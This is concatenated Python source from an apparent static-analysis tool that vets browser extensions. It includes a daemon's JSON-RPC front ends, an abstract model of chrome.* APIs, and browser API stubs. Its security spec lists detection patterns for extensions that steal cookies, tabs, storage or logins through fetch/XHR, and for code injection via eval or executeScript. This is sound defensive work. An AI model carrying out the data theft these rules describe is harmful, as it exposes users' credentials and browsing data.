            writer.write(head.encode("ascii") + body)
            await writer.drain()
        except (ConnectionError, BrokenPipeError):
            pass
        finally:
            try:
                writer.close()
            except Exception:
                pass

    async def _respond(self, reader: asyncio.StreamReader) -> tuple[int, dict]:
        request_line = await reader.readline()
        parts = request_line.decode("latin-1").split()
        if len(parts) < 2:
            return 400, {"error": "bad-request"}
        verb, path = parts[0].upper(), parts[1]
        headers: dict[str, str] = {}
        while True:
            line = await reader.readline()
            if line in (b"\r\n", b"\n", b""):
                break
            name, _, value = line.decode("latin-1").partition(":")
            headers[name.strip().lower()] = value.strip()
        length = int(headers.get("content-length", "0") or "0")
        body = await reader.readexactly(length) if length else b""
        segments = [s for s in path.split("/") if s]
        if not segments:
            return 400, {"error": "bad-request"}
        method = _HTTP_ROUTES.get((verb, segments[0]))
        if method is None:
            return 404, {"error": "unknown-route", "detail": path}
        params: dict = {}
        if body:
            try:
                params = json.loads(body)
                if not isinstance(params, dict):
                    raise ValueError("body must be a JSON object")
            except ValueError as exc:
                return 400, {"error": "bad-json", "detail": str(exc)}
        if len(segments) > 1:
            params.setdefault("job_id", segments[1])
        try:
            return 200, await self.service.rpc(method, params)
        except RpcError as exc:
            return exc.status, exc.to_json()


# ----------------------------------------------------------------------
# Front door: newline-delimited JSON-RPC on stdin/stdout


async def serve_stdio(service: VettingService) -> None:
    """Speak newline-delimited JSON-RPC on stdin/stdout: each request
    line ``{"id": ..., "method": ..., "params": {...}}`` gets exactly
    one response line. EOF on stdin stops the service."""
    loop = asyncio.get_running_loop()
    reader = asyncio.StreamReader()
    await loop.connect_read_pipe(
        lambda: asyncio.StreamReaderProtocol(reader), sys.stdin
    )

    def respond(payload: dict) -> None:
        sys.stdout.write(json.dumps(payload) + "\n")
        sys.stdout.flush()

    while True:
        line = await reader.readline()
        if not line:
            break
        try:
            request = json.loads(line)
            method = request.get("method")
            params = request.get("params") or {}
            request_id = request.get("id")
        except ValueError:
            respond({"id": None, "error": {"error": "bad-json"}})
            continue
        try:
            result = await service.rpc(str(method), params)
            respond({"id": request_id, "result": result})
        except RpcError as exc:
            respond({"id": request_id, "error": exc.to_json()})
        if method == "shutdown":
            break
    await service.stop()


# ----------------------------------------------------------------------
# Entry point


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="addon-sig serve",
        description="long-running crash-safe vetting daemon",
    )
    parser.add_argument(
        "--dir", required=True,
        help="service state directory (journals, results, version chains)",
    )
    parser.add_argument(
        "--workers", type=int, default=2,
        help="vetting worker processes (default 2)",
    )
    parser.add_argument(
        "--timeout", type=float, default=None, metavar="SECONDS",
        help="per-job cooperative wall-clock budget (degrades the "
             "signature; a generous hard backstop fails wedged jobs)",
    )
    parser.add_argument(
        "--max-attempts", type=int, default=3,
        help="poison threshold: crashes before a job is quarantined",
    )
    parser.add_argument(
        "--http", type=int, default=None, metavar="PORT",
        help="serve HTTP on 127.0.0.1:PORT (0 = pick a free port)",
    )
    parser.add_argument(
        "--stdio", action="store_true",
        help="speak newline-delimited JSON-RPC on stdin/stdout",
    )
    parser.add_argument(
        "--no-fsync", action="store_true",
        help="skip fsync on journal appends and result commits "
             "(tests only: loses power-failure durability)",
    )
    parser.add_argument(
        "--max-chains", type=int, default=None,
        help="LRU bound on recorded version chains (default unbounded)",
    )
    return parser


async def _amain(arguments: argparse.Namespace) -> int:
    from repro.store import atomic_write_json

    retry = RetryPolicy(max_attempts=max(1, arguments.max_attempts))
    service = VettingService(
        arguments.dir,
        workers=arguments.workers,
        timeout=arguments.timeout,
        retry=retry,
        fsync=not arguments.no_fsync,
        max_chains=arguments.max_chains,
    )
    await service.start()

    loop = asyncio.get_running_loop()
    for signum in (signal.SIGINT, signal.SIGTERM):
        try:
            loop.add_signal_handler(
                signum, lambda: asyncio.ensure_future(service.stop())
            )
        except (NotImplementedError, RuntimeError):
            pass

    recovery = service.queue.recovery
    if arguments.stdio and arguments.http is None:
        print(json.dumps({"ready": True, "recovery": recovery}),
              file=sys.stderr, flush=True)
        await serve_stdio(service)
        return 0

    door = HttpFrontDoor(service, port=arguments.http or 0)
    port = await door.start()
    atomic_write_json(
        Path(arguments.dir) / "daemon.json",
        {"pid": os.getpid(), "port": port, "recovery": recovery},
    )
    print(f"listening on 127.0.0.1:{port}", flush=True)
    await service.wait_stopped()
    await door.close()
    return 0


def main(argv: list[str] | None = None) -> int:
    arguments = build_parser().parse_args(argv)
    if arguments.http is None and not arguments.stdio:
        arguments.stdio = True  # default front door: stdin JSON-RPC
    try:
        return asyncio.run(_amain(arguments))
    except KeyboardInterrupt:
        return 0


if __name__ == "__main__":
    sys.exit(main())
