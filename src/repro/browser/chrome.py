"""The abstract ``chrome.*`` WebExtensions model.

Extends :class:`~repro.browser.env.BrowserEnvironment` with the API
surface modern extensions exercise — ``chrome.runtime`` message passing,
``chrome.tabs``, ``chrome.cookies``, ``chrome.storage``,
``chrome.scripting``, and ``fetch`` — plus the ``webext_spec()``
security spec expressing the DoubleX / Kim-&-Lee vulnerability classes
as signature entries.

Message passing is modeled with the interpreter's *abstract channels*:

- ``chrome.runtime.sendMessage(msg)`` / ``chrome.tabs.sendMessage(tab,
  msg)`` join ``msg`` into the ``runtime`` channel payload (and carry
  the ``chan_w:runtime`` native effect, which the read/write pass turns
  into a weak write of the channel's synthetic global slot);
- ``chrome.runtime.onMessage.addListener(fn)`` registers ``fn`` on the
  ``runtime`` channel, keyed by the registering *component*, so only
  that component's event loop dispatches it;
- ``onMessageExternal`` uses the separate ``runtime-external`` channel,
  which has no in-extension writer: its payload is purely the
  environment-injected attacker message;
- handlers receive ``(message, sender, sendResponse)`` where ``message``
  is the joined channel payload ⊔ the abstract attacker message (any
  web page or extension may be on the sending end), ``sender`` is the
  abstract MessageSender (``url``/``origin``/``id`` unconstrained), and
  ``sendResponse`` writes the ``runtime-response`` channel that
  ``sendMessage`` response callbacks are registered on.

Callback-style data APIs (``cookies.getAll``, ``tabs.query``,
``storage.get``) reuse the same machinery on private channels
(``cookies``/``tabs``/``storage``): the API call writes the abstract
result payload and registers the callback, so the data path
``getAll → loop → callback`` is an ordinary channel dispatch.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.analysis import builtins as analysis_builtins
from repro.analysis.environment import NativeCall, NativeImpl
from repro.browser import stubs
from repro.browser.env import BrowserEnvironment, _addr, _props
from repro.domains import prefix as prefix_domain
from repro.domains import values as values_domain
from repro.domains.objects import AbstractObject, native_object
from repro.domains.state import State
from repro.domains.values import AbstractValue
from repro.ir.nodes import GLOBAL_SCOPE, Var
from repro.signatures.spec import (
    ApiSink,
    CallSource,
    ChannelSource,
    DomainRule,
    NetworkSink,
    PropertySource,
    PropertyWriteSink,
    SecuritySpec,
)

# ----------------------------------------------------------------------
# Channels

CHAN_RUNTIME = "runtime"
CHAN_EXTERNAL = "runtime-external"
CHAN_RESPONSE = "runtime-response"
CHAN_COOKIES = "cookies"
CHAN_TABS = "tabs"
CHAN_STORAGE = "storage"

# ----------------------------------------------------------------------
# Fixed addresses: objects -2200.., methods -2300.. (continuing the
# conventions of repro.browser.stubs).

CHROME = -2200
RUNTIME = -2201
ON_MESSAGE = -2202
ON_MESSAGE_EXTERNAL = -2203
ON_INSTALLED = -2204
TABS = -2205
COOKIES = -2206
STORAGE = -2207
STORAGE_AREA = -2208
SCRIPTING = -2209
EXT_MESSAGE = -2210
EXT_SENDER = -2211
SENDER_TAB = -2212
EXT_TAB = -2213
TAB_LIST = -2214
EXT_COOKIE = -2215
COOKIE_LIST = -2216
STORAGE_ITEMS = -2217

SEND_MESSAGE = -2300
ON_MESSAGE_ADD = -2301
ON_MESSAGE_EXTERNAL_ADD = -2302
SEND_RESPONSE_FN = -2303
TABS_QUERY = -2304
TABS_SEND_MESSAGE = -2305
TABS_CREATE = -2306
TABS_UPDATE = -2307
TABS_EXECUTE_SCRIPT = -2308
COOKIES_GET = -2309
COOKIES_GET_ALL = -2310
COOKIES_SET = -2311
COOKIES_REMOVE = -2312
STORAGE_GET = -2313
STORAGE_SET = -2314
STORAGE_REMOVE = -2315
SCRIPTING_EXECUTE = -2316
SCRIPTING_INSERT_CSS = -2317
FETCH_FN = -2318
RUNTIME_GET_URL = -2319
ON_INSTALLED_ADD = -2320


# ----------------------------------------------------------------------
# Stubs


def _undefined(call: NativeCall) -> AbstractValue:
    return values_domain.UNDEF


def _any_string(call: NativeCall) -> AbstractValue:
    return values_domain.ANY_STRING


def _fetch(call: NativeCall) -> AbstractValue:
    from repro.analysis.builtins import unknown_value

    return unknown_value()


def _send_message(call: NativeCall) -> AbstractValue:
    """``chrome.runtime.sendMessage(message, responseCallback?)``."""
    call.interpreter.channel_write(CHAN_RUNTIME, call.arg(0))
    callback = call.arg(1)
    if callback.addresses:
        call.interpreter.register_channel_handler(
            CHAN_RESPONSE, callback, call.stmt.sid
        )
    return values_domain.UNDEF


def _tabs_send_message(call: NativeCall) -> AbstractValue:
    """``chrome.tabs.sendMessage(tabId, message, responseCallback?)``."""
    call.interpreter.channel_write(CHAN_RUNTIME, call.arg(1))
    callback = call.arg(2)
    if callback.addresses:
        call.interpreter.register_channel_handler(
            CHAN_RESPONSE, callback, call.stmt.sid
        )
    return values_domain.UNDEF


def _on_message_add(call: NativeCall) -> AbstractValue:
    call.interpreter.register_channel_handler(
        CHAN_RUNTIME, call.arg(0), call.stmt.sid
    )
    return values_domain.UNDEF


def _on_message_external_add(call: NativeCall) -> AbstractValue:
    call.interpreter.register_channel_handler(
        CHAN_EXTERNAL, call.arg(0), call.stmt.sid
    )
    return values_domain.UNDEF


def _on_installed_add(call: NativeCall) -> AbstractValue:
    # Lifecycle handlers get no interesting payload: plain event dispatch.
    call.interpreter.register_event_handler(call.arg(0))
    return values_domain.UNDEF


def _send_response(call: NativeCall) -> AbstractValue:
    call.interpreter.channel_write(CHAN_RESPONSE, call.arg(0))
    return values_domain.UNDEF


def _data_callback(call: NativeCall, channel: str, payload: AbstractValue,
                   callback_index: int = 1) -> AbstractValue:
    """Shared shape of chrome's callback-style data APIs: write the
    abstract result to the API's private channel and register the
    callback on it."""
    call.interpreter.channel_write(channel, payload)
    callback = call.arg(callback_index)
    if not callback.addresses and callback_index > 0:
        callback = call.arg(callback_index - 1)  # optional leading arg
    if callback.addresses:
        call.interpreter.register_channel_handler(
            channel, callback, call.stmt.sid
        )
    return values_domain.UNDEF


def _cookies_get_all(call: NativeCall) -> AbstractValue:
    return _data_callback(call, CHAN_COOKIES, _addr(COOKIE_LIST))


def _cookies_get(call: NativeCall) -> AbstractValue:
    return _data_callback(call, CHAN_COOKIES, _addr(EXT_COOKIE))


def _tabs_query(call: NativeCall) -> AbstractValue:
    return _data_callback(call, CHAN_TABS, _addr(TAB_LIST))


def _storage_get(call: NativeCall) -> AbstractValue:
    return _data_callback(call, CHAN_STORAGE, _addr(STORAGE_ITEMS))


def _execute_script(call: NativeCall) -> AbstractValue:
    """``chrome.scripting.executeScript`` / MV2 ``tabs.executeScript``:
    flag string code injection (``{code: "..."}``) as dynamic code."""
    for value in call.args:
        if not value.addresses:
            continue
        code = call.state.heap.read(
            value.addresses, prefix_domain.exact("code")
        )
        if not code.string.is_bottom:
            call.interpreter.report_diagnostic(
                "dynamic-code:execute-script", call.stmt.sid
            )
    return values_domain.UNDEF


#: tag -> implementation for the chrome.* natives.
CHROME_NATIVES: dict[str, NativeImpl] = {
    "chrome.runtime.sendMessage": _send_message,
    "chrome.runtime.onMessage.addListener": _on_message_add,
    "chrome.runtime.onMessageExternal.addListener": _on_message_external_add,
    "chrome.runtime.onInstalled.addListener": _on_installed_add,
    "chrome.runtime.sendResponse": _send_response,
    "chrome.runtime.getURL": _any_string,
    "chrome.tabs.query": _tabs_query,
    "chrome.tabs.sendMessage": _tabs_send_message,
    "chrome.tabs.create": _undefined,
    "chrome.tabs.update": _undefined,
    "chrome.tabs.executeScript": _execute_script,
    "chrome.cookies.get": _cookies_get,
    "chrome.cookies.getAll": _cookies_get_all,
    "chrome.cookies.set": _undefined,
    "chrome.cookies.remove": _undefined,
    "chrome.storage.get": _storage_get,
    "chrome.storage.set": _undefined,
    "chrome.storage.remove": _undefined,
    "chrome.scripting.executeScript": _execute_script,
    "chrome.scripting.insertCSS": _undefined,
    "fetch": _fetch,
}

#: Heap effects (``chan_w:<channel>`` feeds the cross-component DDG).
CHROME_EFFECTS: dict[str, frozenset[str]] = {
    "chrome.runtime.sendMessage": frozenset({"read_arg_props", "chan_w:" + CHAN_RUNTIME}),
    "chrome.tabs.sendMessage": frozenset({"read_arg_props", "chan_w:" + CHAN_RUNTIME}),
    "chrome.runtime.sendResponse": frozenset({"read_arg_props", "chan_w:" + CHAN_RESPONSE}),
    "chrome.cookies.get": frozenset({"read_arg_props", "chan_w:" + CHAN_COOKIES}),
    "chrome.cookies.getAll": frozenset({"read_arg_props", "chan_w:" + CHAN_COOKIES}),
    "chrome.tabs.query": frozenset({"read_arg_props", "chan_w:" + CHAN_TABS}),
    "chrome.storage.get": frozenset({"read_arg_props", "chan_w:" + CHAN_STORAGE}),
    "chrome.storage.set": frozenset({"read_arg_props"}),
    "chrome.storage.remove": frozenset({"read_arg_props"}),
    "chrome.cookies.set": frozenset({"read_arg_props"}),
    "chrome.cookies.remove": frozenset({"read_arg_props"}),
    "chrome.tabs.create": frozenset({"read_arg_props"}),
    "chrome.tabs.update": frozenset({"read_arg_props"}),
    "chrome.tabs.executeScript": frozenset({"read_arg_props"}),
    "chrome.scripting.executeScript": frozenset({"read_arg_props"}),
    "fetch": frozenset({"read_arg_props"}),
}


@dataclass
class WebExtEnvironment(BrowserEnvironment):
    """Browser environment plus the chrome.* object graph and channels."""

    natives: dict[str, NativeImpl] = field(
        default_factory=lambda: {**stubs.BROWSER_NATIVES, **CHROME_NATIVES}
    )

    def setup(self, state: State, interpreter) -> None:
        super().setup(state, interpreter)
        heap = state.heap

        def method(address: int, tag: str) -> AbstractValue:
            heap.allocate(address, native_object(tag, kind="function"))
            return _addr(address)

        send_message = method(SEND_MESSAGE, "chrome.runtime.sendMessage")
        on_message_add = method(ON_MESSAGE_ADD, "chrome.runtime.onMessage.addListener")
        on_external_add = method(
            ON_MESSAGE_EXTERNAL_ADD, "chrome.runtime.onMessageExternal.addListener"
        )
        on_installed_add = method(
            ON_INSTALLED_ADD, "chrome.runtime.onInstalled.addListener"
        )
        send_response = method(SEND_RESPONSE_FN, "chrome.runtime.sendResponse")
        get_url = method(RUNTIME_GET_URL, "chrome.runtime.getURL")
        tabs_query = method(TABS_QUERY, "chrome.tabs.query")
        tabs_send = method(TABS_SEND_MESSAGE, "chrome.tabs.sendMessage")
        tabs_create = method(TABS_CREATE, "chrome.tabs.create")
        tabs_update = method(TABS_UPDATE, "chrome.tabs.update")
        tabs_execute = method(TABS_EXECUTE_SCRIPT, "chrome.tabs.executeScript")
        cookies_get = method(COOKIES_GET, "chrome.cookies.get")
        cookies_get_all = method(COOKIES_GET_ALL, "chrome.cookies.getAll")
        cookies_set = method(COOKIES_SET, "chrome.cookies.set")
        cookies_remove = method(COOKIES_REMOVE, "chrome.cookies.remove")
        storage_get = method(STORAGE_GET, "chrome.storage.get")
        storage_set = method(STORAGE_SET, "chrome.storage.set")
        storage_remove = method(STORAGE_REMOVE, "chrome.storage.remove")
        scripting_execute = method(
            SCRIPTING_EXECUTE, "chrome.scripting.executeScript"
        )
        scripting_css = method(SCRIPTING_INSERT_CSS, "chrome.scripting.insertCSS")
        fetch_fn = method(FETCH_FN, "fetch")

        # --- abstract message payloads ---
        heap.allocate(
            SENDER_TAB,
            AbstractObject(
                kind="object",
                native="ext-tab",
                properties=_props(
                    url=values_domain.ANY_STRING,
                    title=values_domain.ANY_STRING,
                    id=values_domain.ANY_NUMBER,
                ),
            ),
        )
        heap.allocate(
            EXT_MESSAGE,
            AbstractObject(
                kind="object",
                native="ext-message",
                unknown=values_domain.ANY_STRING,
            ),
        )
        heap.allocate(
            EXT_SENDER,
            AbstractObject(
                kind="object",
                native="ext-sender",
                properties=_props(
                    url=values_domain.ANY_STRING,
                    origin=values_domain.ANY_STRING,
                    id=values_domain.ANY_STRING,
                    tab=_addr(SENDER_TAB),
                ),
            ),
        )
        heap.allocate(
            EXT_TAB,
            AbstractObject(
                kind="object",
                native="ext-tab",
                properties=_props(
                    url=values_domain.ANY_STRING,
                    title=values_domain.ANY_STRING,
                    favIconUrl=values_domain.ANY_STRING,
                    id=values_domain.ANY_NUMBER,
                    active=values_domain.ANY_BOOL,
                ),
            ),
        )
        heap.allocate(
            TAB_LIST,
            AbstractObject(
                kind="array",
                properties=_props(length=values_domain.ANY_NUMBER),
                unknown=_addr(EXT_TAB),
            ),
        )
        heap.allocate(
            EXT_COOKIE,
            AbstractObject(
                kind="object",
                native="ext-cookie",
                properties=_props(
                    name=values_domain.ANY_STRING,
                    value=values_domain.ANY_STRING,
                    domain=values_domain.ANY_STRING,
                    path=values_domain.ANY_STRING,
                ),
            ),
        )
        heap.allocate(
            COOKIE_LIST,
            AbstractObject(
                kind="array",
                properties=_props(length=values_domain.ANY_NUMBER),
                unknown=_addr(EXT_COOKIE),
            ),
        )
        heap.allocate(
            STORAGE_ITEMS,
            AbstractObject(
                kind="object",
                native="ext-storage-items",
                unknown=values_domain.ANY_STRING,
            ),
        )

        # --- the chrome.* API graph ---
        heap.allocate(
            ON_MESSAGE,
            AbstractObject(
                kind="object",
                native="runtime.onMessage",
                properties=_props(addListener=on_message_add),
            ),
        )
        heap.allocate(
            ON_MESSAGE_EXTERNAL,
            AbstractObject(
                kind="object",
                native="runtime.onMessageExternal",
                properties=_props(addListener=on_external_add),
            ),
        )
        heap.allocate(
            ON_INSTALLED,
            AbstractObject(
                kind="object",
                native="runtime.onInstalled",
                properties=_props(addListener=on_installed_add),
            ),
        )
        heap.allocate(
            RUNTIME,
            AbstractObject(
                kind="object",
                native="chrome-runtime",
                properties=_props(
                    id=values_domain.ANY_STRING,
                    sendMessage=send_message,
                    onMessage=_addr(ON_MESSAGE),
                    onMessageExternal=_addr(ON_MESSAGE_EXTERNAL),
                    onInstalled=_addr(ON_INSTALLED),
                    getURL=get_url,
                    lastError=values_domain.UNDEF,
                ),
            ),
        )
        heap.allocate(
            TABS,
            AbstractObject(
                kind="object",
                native="chrome-tabs",
                properties=_props(
                    query=tabs_query,
                    sendMessage=tabs_send,
                    create=tabs_create,
                    update=tabs_update,
                    executeScript=tabs_execute,
                ),
            ),
        )
        heap.allocate(
            COOKIES,
            AbstractObject(
                kind="object",
                native="chrome-cookies",
                properties=_props(
                    get=cookies_get,
                    getAll=cookies_get_all,
                    set=cookies_set,
                    remove=cookies_remove,
                ),
            ),
        )
        heap.allocate(
            STORAGE_AREA,
            AbstractObject(
                kind="object",
                native="chrome-storage-area",
                properties=_props(
                    get=storage_get, set=storage_set, remove=storage_remove
                ),
            ),
        )
        heap.allocate(
            STORAGE,
            AbstractObject(
                kind="object",
                native="chrome-storage",
                properties=_props(
                    local=_addr(STORAGE_AREA), sync=_addr(STORAGE_AREA)
                ),
            ),
        )
        heap.allocate(
            SCRIPTING,
            AbstractObject(
                kind="object",
                native="chrome-scripting",
                properties=_props(
                    executeScript=scripting_execute, insertCSS=scripting_css
                ),
            ),
        )
        heap.allocate(
            CHROME,
            AbstractObject(
                kind="object",
                native="chrome",
                properties=_props(
                    runtime=_addr(RUNTIME),
                    tabs=_addr(TABS),
                    cookies=_addr(COOKIES),
                    storage=_addr(STORAGE),
                    scripting=_addr(SCRIPTING),
                ),
            ),
        )

        for name, value in {
            "chrome": _addr(CHROME),
            "browser": _addr(CHROME),  # Firefox WebExtensions alias
            "fetch": fetch_fn,
            # A content script's window/document/location ARE the
            # browsed page's (unlike the XUL overlay world the base
            # environment models, where `document` is the chrome
            # document and the page hides behind `content.*`). The
            # rebinding conflates the background worker's globals with
            # the page's — over-approximate for the background (which
            # has no DOM at all), never under.
            "window": _addr(stubs.CONTENT_WINDOW),
            "document": _addr(stubs.CONTENT_DOCUMENT),
            "location": _addr(stubs.CONTENT_LOCATION),
        }.items():
            state.write_var(Var(name, GLOBAL_SCOPE), value)

    def channel_args(
        self, channel: str, payload: AbstractValue, state: State
    ) -> list[AbstractValue]:
        """Argument vector for channel handlers.

        Runtime-message handlers always see the abstract attacker
        message joined in (any page with ``externally_connectable``
        access, any co-installed extension, or a compromised renderer
        may be the sender) — that is what makes message payloads
        attacker-tainted sources in the receiving component.
        """
        if channel in (CHAN_RUNTIME, CHAN_EXTERNAL):
            message = (
                payload.join(_addr(EXT_MESSAGE)).join(values_domain.ANY_STRING)
            )
            return [message, _addr(EXT_SENDER), _addr(SEND_RESPONSE_FN)]
        return [payload]


def webext_spec() -> SecuritySpec:
    """Sources/sinks/APIs for WebExtensions vetting.

    Expresses the DoubleX / Kim-&-Lee classes: message→privileged-API
    exfiltration (``message``/``cookie``/``tabs``/``storage`` sources
    into the ``send``/``tab-open``/``cookie-write`` sinks), code
    execution from message payloads (``eval``/``scripting`` APIs), and
    permission misuse (bare API-usage entries).
    """
    return SecuritySpec(
        sources=[
            ChannelSource(
                "message", frozenset({CHAN_RUNTIME, CHAN_EXTERNAL})
            ),
            CallSource(
                "cookie",
                frozenset({"chrome.cookies.getAll", "chrome.cookies.get"}),
            ),
            CallSource("tabs", frozenset({"chrome.tabs.query"})),
            CallSource("storage", frozenset({"chrome.storage.get"})),
            PropertySource(
                "url", "location",
                frozenset({"href", "host", "hostname", "pathname", "search"}),
            ),
            PropertySource("cookie", "content-document", frozenset({"cookie"})),
            PropertySource(
                "cookie", "ext-cookie", frozenset({"value", "name", "domain"})
            ),
            PropertySource(
                "tab", "ext-tab", frozenset({"url", "title", "favIconUrl"})
            ),
        ],
        sinks=[
            NetworkSink(
                "send",
                rules=(
                    ("fetch", DomainRule(kind="arg", arg_index=0)),
                    ("xhr.open", DomainRule(kind="arg", arg_index=1)),
                    ("xhr.send", DomainRule(kind="this_prop")),
                    ("xhrwrapper.send", DomainRule(kind="this_prop")),
                    ("XHRWrapper", DomainRule(kind="arg", arg_index=0)),
                ),
            ),
            NetworkSink(
                "tab-open",
                rules=(
                    ("chrome.tabs.create", DomainRule(kind="args_prop", prop="url")),
                    ("chrome.tabs.update", DomainRule(kind="args_prop", prop="url")),
                ),
            ),
            NetworkSink(
                "cookie-write",
                rules=(
                    ("chrome.cookies.set", DomainRule(kind="args_prop", prop="url")),
                ),
            ),
            PropertyWriteSink("redirect", "location", frozenset({"href"})),
        ],
        apis=[
            ApiSink(
                "scripting",
                frozenset(
                    {"chrome.scripting.executeScript", "chrome.tabs.executeScript"}
                ),
            ),
            ApiSink("eval", frozenset({"eval"})),
            ApiSink("storage-write", frozenset({"chrome.storage.set"})),
        ],
    )


def install_effects() -> None:
    """Merge the chrome natives' heap effects into the shared table."""
    analysis_builtins.NATIVE_EFFECTS.update(CHROME_EFFECTS)


install_effects()
