"""The browser addon environment: native API stubs, the pre-allocated
browser object graph, and the Mozilla-flavored security spec."""

from repro.browser.env import BrowserEnvironment, mozilla_spec
from repro.browser import stubs

__all__ = ["BrowserEnvironment", "mozilla_spec", "stubs"]
