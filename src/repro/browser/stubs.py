"""Native browser API stubs (the DOM/XPCOM models of Section 6.1).

The paper: "we provide manually-written stubs for the native APIs (e.g.
DOM and XPCOM APIs) used by our benchmarks". Each stub is a function
from :class:`~repro.analysis.environment.NativeCall` to an abstract
result; the fixed negative addresses below pre-allocate the browser
object graph (window, content window, locations, document, Services,
XMLHttpRequest, ...).

Conventions:

- network request objects stash their target URL in the analysis-private
  property ``%url``; the ``send`` security spec reads it back
  (:class:`repro.signatures.spec.DomainRule`);
- listener-registering stubs (``addEventListener``, ``setTimeout``,
  ``getCurrentPosition``) hand the callback to the interpreter's event
  registry, which the synthetic event loop dispatches over.
"""

from __future__ import annotations

from repro.analysis.environment import NativeCall, NativeImpl
from repro.domains import prefix as prefix_domain
from repro.domains import values as values_domain
from repro.domains.objects import AbstractObject
from repro.domains.values import AbstractValue

# ----------------------------------------------------------------------
# Fixed addresses for the pre-allocated browser object graph.

WINDOW = -2000
CHROME_DOCUMENT = -2001
CONTENT_WINDOW = -2002
CONTENT_LOCATION = -2003
CONTENT_DOCUMENT = -2004
CHROME_LOCATION = -2005
NAVIGATOR = -2006
GEOLOCATION = -2007
GEOPOSITION = -2008
GEO_COORDS = -2009
EVENT = -2010
EVENT_TARGET = -2011
SERVICES = -2012
SCRIPTLOADER = -2013
LOGIN_MANAGER = -2014
CLIPBOARD = -2015
GBROWSER = -2016
CURRENT_URI = -2017
XHR_CONSTRUCTOR = -2018
ELEMENT = -2019
CONSOLE = -2020
PREFS = -2021
HISTORY = -2022

# Shared method objects (callable natives).
ADD_EVENT_LISTENER = -2100
REMOVE_EVENT_LISTENER = -2101
SET_TIMEOUT = -2102
SET_INTERVAL = -2103
XHR_OPEN = -2104
XHR_SEND = -2105
XHR_SET_HEADER = -2106
XHR_WRAPPER = -2107
XHR_WRAPPER_SEND = -2108
GET_ELEMENT_BY_ID = -2109
GET_CURRENT_POSITION = -2110
LOAD_SUBSCRIPT = -2111
GET_ALL_LOGINS = -2112
CLIPBOARD_GET = -2113
CLIPBOARD_SET = -2114
EVAL_FN = -2115
ALERT_FN = -2116
CONSOLE_LOG = -2117
QUERY_SELECTOR = -2118
CREATE_ELEMENT = -2119
GET_CHAR_PREF = -2120
SET_CHAR_PREF = -2121
HISTORY_QUERY = -2122
GET_SELECTION = -2123
GET_ATTRIBUTE = -2124


def _unknown(call: NativeCall) -> AbstractValue:
    from repro.analysis.builtins import unknown_value

    return unknown_value()


def _undefined(call: NativeCall) -> AbstractValue:
    return values_domain.UNDEF


def _any_string(call: NativeCall) -> AbstractValue:
    return values_domain.ANY_STRING


# ----------------------------------------------------------------------
# Event registration


def _add_event_listener(call: NativeCall) -> AbstractValue:
    call.interpreter.register_event_handler(call.arg(1))
    return values_domain.UNDEF


def _set_timer(call: NativeCall) -> AbstractValue:
    callback = call.arg(0)
    if not callback.string.is_bottom:
        # setTimeout("code string", ms) is eval in disguise — exactly the
        # dynamic-code pattern the vetting policy restricts.
        call.interpreter.report_diagnostic("dynamic-code:string-timer", call.stmt.sid)
    call.interpreter.register_event_handler(callback)
    return values_domain.ANY_NUMBER


def _get_current_position(call: NativeCall) -> AbstractValue:
    # The success callback eventually runs with a position object; the
    # event loop models "eventually" and the event value includes the
    # position's fields via the shared event object.
    call.interpreter.register_event_handler(call.arg(0))
    return values_domain.UNDEF


# ----------------------------------------------------------------------
# Network requests


def _xhr_methods() -> tuple[tuple[str, AbstractValue], ...]:
    return (
        ("open", values_domain.from_addresses(XHR_OPEN)),
        ("send", values_domain.from_addresses(XHR_SEND)),
        ("setRequestHeader", values_domain.from_addresses(XHR_SET_HEADER)),
        ("responseText", values_domain.ANY_STRING),
        ("responseXML", values_domain.UNDEF.join(values_domain.ANY_STRING)),
        ("status", values_domain.ANY_NUMBER),
        ("readyState", values_domain.ANY_NUMBER),
    )


def _xhr_constructor(call: NativeCall) -> AbstractValue:
    address = call.interpreter.alloc_at(
        call.stmt.sid, salt=10,
        obj=AbstractObject(kind="object", native="xhr", properties=_xhr_methods()),
        state=call.state,
    )
    return values_domain.from_addresses(address)


def _xhr_open(call: NativeCall) -> AbstractValue:
    """``xhr.open(method, url, async?)`` — record the URL on the request
    object for later domain inference at ``send``."""
    url = call.arg(1).to_property_name()
    call.state.heap.write(
        call.this.addresses,
        prefix_domain.exact("%url"),
        values_domain.from_string(url),
    )
    return values_domain.UNDEF


def _xhr_send(call: NativeCall) -> AbstractValue:
    # onreadystatechange-style completion handlers would fire after the
    # response; model by registering any handler stored on the request.
    handler = call.state.heap.read(
        call.this.addresses, prefix_domain.exact("onreadystatechange")
    )
    if handler.addresses:
        call.interpreter.register_event_handler(handler)
    handler = call.state.heap.read(
        call.this.addresses, prefix_domain.exact("onload")
    )
    if handler.addresses:
        call.interpreter.register_event_handler(handler)
    return values_domain.UNDEF


def _xhr_wrapper(call: NativeCall) -> AbstractValue:
    """The paper's ``XHRWrapper(server)`` helper: a request object bound
    to the given server."""
    url = call.arg(0).to_property_name()
    address = call.interpreter.alloc_at(
        call.stmt.sid, salt=11,
        obj=AbstractObject(
            kind="object",
            native="xhr",
            properties=(
                ("send", values_domain.from_addresses(XHR_WRAPPER_SEND)),
                ("%url", values_domain.from_string(url)),
            ),
        ),
        state=call.state,
    )
    return values_domain.from_addresses(address)


# ----------------------------------------------------------------------
# DOM


def _get_element_by_id(call: NativeCall) -> AbstractValue:
    return values_domain.from_addresses(ELEMENT).join(values_domain.NULL)


def _create_element(call: NativeCall) -> AbstractValue:
    return values_domain.from_addresses(ELEMENT)


# ----------------------------------------------------------------------
# XPCOM services


def _get_all_logins(call: NativeCall) -> AbstractValue:
    address = call.interpreter.alloc_at(
        call.stmt.sid, salt=12,
        obj=AbstractObject(kind="array", unknown=values_domain.ANY_STRING),
        state=call.state,
    )
    return values_domain.from_addresses(address)


#: tag -> implementation for every browser native.
BROWSER_NATIVES: dict[str, NativeImpl] = {
    "window.addEventListener": _add_event_listener,
    "window.removeEventListener": _undefined,
    "window.setTimeout": _set_timer,
    "window.setInterval": _set_timer,
    "XMLHttpRequest": _xhr_constructor,
    "xhr.open": _xhr_open,
    "xhr.send": _xhr_send,
    "xhr.setRequestHeader": _undefined,
    "XHRWrapper": _xhr_wrapper,
    "xhrwrapper.send": _xhr_send,
    "document.getElementById": _get_element_by_id,
    "document.querySelector": _get_element_by_id,
    "document.createElement": _create_element,
    "geolocation.getCurrentPosition": _get_current_position,
    "scriptloader.loadSubScript": _unknown,
    "logins.getAllLogins": _get_all_logins,
    "clipboard.getData": _any_string,
    "clipboard.setData": _undefined,
    "eval": _unknown,
    "alert": _undefined,
